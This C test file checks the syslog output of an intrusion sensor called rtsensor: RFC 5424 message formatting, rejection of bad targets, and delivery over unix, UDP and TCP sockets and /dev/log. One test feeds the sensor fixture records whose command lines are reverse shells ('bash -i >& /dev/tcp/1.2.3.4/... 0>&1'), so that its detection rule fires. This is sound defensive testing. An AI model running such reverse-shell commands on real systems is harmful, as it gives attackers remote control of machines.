/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * rtsensor's syslog sink: the RFC 5424 text, bad targets, and real
 * delivery of replayed alerts to a unix datagram socket and (root, in a
 * network namespace of the test's own) a TCP collector with octet-counted
 * frames; undelivered alerts are counted and fail the run.
 */
#include <arpa/inet.h>
#include <criterion/criterion.h>
#include <errno.h>
#include <jansson.h>
#include <netinet/in.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include "syslog-sink.h"
#include "testlib.h"

#include "alert-log.h"

static char dir[64];

static void setup(void)
{
	snprintf(dir, sizeof(dir), "/tmp/syslog-test-XXXXXX");
	alert_log_dir(dir);
}

static void teardown(void)
{
	char cmd[128];

	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", dir);
	run_sh(cmd);
}

/* rtsensor replay of the log with --syslog TARGET; its exit code. */
static int replay_to(const char *target, const char *extra)
{
	char cmd[1024];

	snprintf(cmd, sizeof(cmd),
		 "\"$RTSENSOR\" replay --audit '%s/audit.log' --mode learn --learn-min 5 "
		 "--learn-stable 5 --alerts /dev/null --syslog '%s' %s",
		 dir, target, extra ? extra : "");
	return run_sh(cmd);
}

/* Check one message: PRI, version, host, app, MSGID, and a JSON alert as MSG. */
static void check_msg(const char *m, size_t n, const char *want_pri, const char *want_msgid)
{
	char host[256] = "", head[64];
	const char *sp, *json;
	json_t *j;
	json_error_t e;

	gethostname(host, sizeof(host) - 1);
	cr_assert_eq(strncmp(m, want_pri, strlen(want_pri)), 0, "PRI of: %.*s", (int)n, m);
	cr_assert_eq(strncmp(m + strlen(want_pri), "1 2026-", 7), 0, "version and a timestamp");
	sp = memchr(m + strlen(want_pri) + 2, ' ', n - strlen(want_pri) - 2);
	cr_assert_not_null(sp);
	cr_assert_eq(sp[-1], 'Z', "UTC timestamp");
	snprintf(head, sizeof(head), " %s rtsensor ", host);
	cr_assert_eq(strncmp(sp, head, strlen(head)), 0, "host and app in: %.*s", (int)n, m);
	sp = strchr(sp + strlen(head), ' '); /* after PROCID */
	cr_assert_not_null(sp);
	cr_assert_eq(strncmp(sp + 1, want_msgid, strlen(want_msgid)), 0, "MSGID in: %.80s", sp);
	cr_assert_eq(strncmp(sp + 1 + strlen(want_msgid), " - {", 4), 0, "no SD, then the JSON");
	json = sp + 1 + strlen(want_msgid) + 3;
	j = json_loadb(json, n - (size_t)(json - m), 0, &e);
	cr_assert_not_null(j, "MSG is JSON: %s", e.text);
	cr_assert_not_null(json_object_get(j, "alert"));
	json_decref(j);
}

Test(syslog, format_is_rfc5424, .init = setup, .fini = teardown)
{
	struct timespec ts = { .tv_sec = 1767225600, .tv_nsec = 123456789 };
	char buf[256];
	size_t n;

	n = syslog_format(buf, sizeof(buf), SENSOR_SEVERITY_CRITICAL, &ts, "web 1", 42,
			  "reverse-shell-devtcp", "{\"alert\":{}}");
	cr_assert_str_eq(buf, "<10>1 2026-01-01T00:00:00.123456Z web_1 rtsensor 42 "
			      "reverse-shell-devtcp - {\"alert\":{}}");
	cr_assert_eq(n, strlen(buf));
	/* empty fields are the nil value; MSGID is cut at 32 */
	syslog_format(buf, sizeof(buf), SENSOR_SEVERITY_LOW, &ts, "", 1,
		      "a-very-long-message-id-of-more-than-32", "m");
	cr_assert_str_eq(buf, "<13>1 2026-01-01T00:00:00.123456Z - rtsensor 1 "
			      "a-very-long-message-id-of-more-t - m");
	/* a small buffer: cut, terminated, the full length returned */
	n = syslog_format(buf, 10, SENSOR_SEVERITY_HIGH, &ts, "h", 1, "x", "m");
	cr_assert_eq(strlen(buf), 9);
	cr_assert_gt(n, 9);
}

Test(syslog, bad_targets_are_usage_errors, .init = setup, .fini = teardown)
{
	static const char *const bad[] = { "bogus", "udp:", "udp:host", "udp:127.0.0.1:0",
					   "udp:127.0.0.1:70000", "tcp:[::1:514", "unix:",
					   "udp:127.0.0.1:5x4" };

	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
		cr_expect_eq(replay_to(bad[i], "2>/dev/null"), 2, "--syslog %s", bad[i]);
	cr_expect_eq(replay_to("unix:/nonexistent/sock", "2>/dev/null"), 2);
}

Test(syslog, alerts_reach_a_unix_socket, .init = setup, .fini = teardown)
{
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	char target[128], m[65536];
	int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0), got = 0;
	bool rule = false, reason = false;

	cr_assert_geq(fd, 0);
	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s/log.sock", dir);
	cr_assert_eq(bind(fd, (struct sockaddr *)&sa, sizeof(sa)), 0);
	snprintf(target, sizeof(target), "unix:%s", sa.sun_path);
	cr_assert_eq(replay_to(target, NULL), 0);
	for (;;) {
		ssize_t n = recv(fd, m, sizeof(m) - 1, MSG_DONTWAIT);

		if (n <= 0)
			break;
		m[n] = '\0';
		got++;
		if (strstr(m, " reverse-shell-devtcp - ")) {
			check_msg(m, (size_t)n, "<10>", "reverse-shell-devtcp");
			rule = true;
		} else {
			check_msg(m, (size_t)n, "<11>", "new_exec");
			reason = true;
		}
	}
	close(fd);
	cr_assert_eq(got, 2);
	cr_assert(rule && reason);
}

Test(syslog, undelivered_alerts_fail_the_run, .init = setup, .fini = teardown)
{
	/* two reverse shells (threat rule: alerts even while learning), fed one at a time */
	static const char first[] = EXEC("1767225600.000", "1", "/tmp/a", "sh",
		"argc=3 a0=\"sh\" a1=\"-c\" a2=\"bash -i >& /dev/tcp/1.2.3.4/1 0>&1\"", "6C73");
	static const char second[] = EXEC("1767225601.000", "2", "/tmp/b", "sh",
		"argc=3 a0=\"sh\" a1=\"-c\" a2=\"bash -i >& /dev/tcp/1.2.3.4/2 0>&1\"", "6C73");
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	struct timeval tv = { .tv_sec = 30 };
	char cmd[512], m[65536], *err;
	int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0), st;
	FILE *in;
	size_t n;

	cr_assert_geq(fd, 0);
	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s/gone.sock", dir);
	cr_assert_eq(bind(fd, (struct sockaddr *)&sa, sizeof(sa)), 0);
	cr_assert_eq(setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv)), 0);
	snprintf(cmd, sizeof(cmd),
		 "\"$RTSENSOR\" replay --audit - --mode learn --alerts /dev/null "
		 "--syslog 'unix:%s' 2>'%s/err'", sa.sun_path, dir);
	in = popen(cmd, "w");
	cr_assert_not_null(in);
	fputs(first, in);
	fflush(in);
	/* the first alert arrives: rtsensor is connected; then the collector goes away */
	cr_assert_gt(recv(fd, m, sizeof(m), 0), 0, "the first alert reached the collector");
	close(fd);
	fputs(second, in);
	st = pclose(in);
	cr_assert(WIFEXITED(st) && WEXITSTATUS(st) == 1, "a lost alert fails the run (%d)", st);
	snprintf(cmd, sizeof(cmd), "%s/err", dir);
	err = read_file(cmd, &n);
	cr_assert_not_null(err);
	cr_assert(strstr(err, "1 of 2 alerts not delivered"), "%s", err);
	free(err);
}

Test(syslog, alerts_reach_a_tcp_collector_with_octet_counting, .init = setup, .fini = teardown)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	socklen_t sl = sizeof(sa);
	char target[64], buf[131072];
	size_t len = 0, off = 0;
	int ls, cs, got = 0;
	pid_t pid;

	REQUIRE_ROOT();
	cr_assert_eq(unshare(CLONE_NEWNET), 0);
	cr_assert_eq(run_sh("ip link set lo up"), 0);
	ls = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	cr_assert_eq(bind(ls, (struct sockaddr *)&sa, sizeof(sa)), 0);
	cr_assert_eq(listen(ls, 1), 0);
	cr_assert_eq(getsockname(ls, (struct sockaddr *)&sa, &sl), 0);
	snprintf(target, sizeof(target), "tcp:127.0.0.1:%d", ntohs(sa.sin_port));
	pid = fork();
	if (pid == 0)
		_exit(replay_to(target, NULL));
	cs = accept(ls, NULL, NULL);
	cr_assert_geq(cs, 0);
	for (;;) {
		ssize_t n = recv(cs, buf + len, sizeof(buf) - 1 - len, 0);

		if (n <= 0)
			break;
		len += (size_t)n;
	}
	{
		int st;

		waitpid(pid, &st, 0);
		cr_assert(WIFEXITED(st) && WEXITSTATUS(st) == 0);
	}
	/* "LEN SP MSG" frames, back to back */
	while (off < len) {
		char *end;
		unsigned long fl = strtoul(buf + off, &end, 10);

		cr_assert_eq(*end, ' ', "octet count at %zu", off);
		cr_assert_leq((size_t)(end + 1 - buf) + fl, len, "frame of %lu bytes fits", fl);
		check_msg(end + 1, fl, strncmp(end + 1, "<10>", 4) == 0 ? "<10>" : "<11>",
			  strncmp(end + 1, "<10>", 4) == 0 ? "reverse-shell-devtcp" : "new_exec");
		off = (size_t)(end + 1 - buf) + fl;
		got++;
	}
	close(cs);
	close(ls);
	cr_assert_eq(got, 2);
}

/* Receive what arrived on fd: count messages, check each; returns the count. */
static int drain_checked(int fd)
{
	char m[65536];
	int got = 0;
	bool rule = false, reason = false;

	for (;;) {
		ssize_t n = recv(fd, m, sizeof(m) - 1, MSG_DONTWAIT);

		if (n <= 0)
			break;
		m[n] = '\0';
		got++;
		if (strstr(m, " reverse-shell-devtcp - ")) {
			check_msg(m, (size_t)n, "<10>", "reverse-shell-devtcp");
			rule = true;
		} else {
			check_msg(m, (size_t)n, "<11>", "new_exec");
			reason = true;
		}
	}
	cr_assert(rule && reason, "%d messages", got);
	return got;
}

/* udp:HOST:PORT: one datagram per alert on the loopback (an ephemeral port of the test's own). */
Test(syslog, alerts_reach_a_udp_collector, .init = setup, .fini = teardown)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	socklen_t sl = sizeof(sa);
	char target[64];
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	cr_assert_geq(fd, 0);
	inet_pton(AF_INET, "127.0.0.1", &sa.sin_addr);
	cr_assert_eq(bind(fd, (struct sockaddr *)&sa, sizeof(sa)), 0);
	cr_assert_eq(getsockname(fd, (struct sockaddr *)&sa, &sl), 0);
	snprintf(target, sizeof(target), "udp:127.0.0.1:%u", ntohs(sa.sin_port));
	cr_assert_eq(replay_to(target, NULL), 0);
	cr_assert_eq(drain_checked(fd), 2);
	close(fd);
}

/*
 * local: the system's /dev/log. The test's own /dev/log, in a mount
 * namespace of its own (a tmpfs over /dev there, with a /dev/null): the
 * host's /dev is never touched.
 */
Test(syslog, alerts_reach_the_local_dev_log, .init = setup, .fini = teardown, .timeout = 60)
{
	pid_t child;
	int st;

	REQUIRE_ROOT();
	child = fork();
	cr_assert_geq(child, 0);
	if (child == 0) {
		struct sockaddr_un sa = { .sun_family = AF_UNIX };
		int fd;

		if (unshare(CLONE_NEWNS) < 0 || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0 ||
		    mount("rtsensor-test-dev", "/dev", "tmpfs", 0, "mode=0755") < 0 ||
		    mknod("/dev/null", S_IFCHR | 0666, makedev(1, 3)) < 0)
			_exit(100);
		fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
		snprintf(sa.sun_path, sizeof(sa.sun_path), "/dev/log");
		if (fd < 0 || bind(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0)
			_exit(101);
		if (replay_to("local", NULL) != 0)
			_exit(102);
		_exit(drain_checked(fd));
	}
	cr_assert_eq(waitpid(child, &st, 0), child);
	cr_assert(WIFEXITED(st), "status 0x%x", st);
	cr_assert_eq(WEXITSTATUS(st), 2, "messages on /dev/log (100+: setup failed): %d", WEXITSTATUS(st));
}
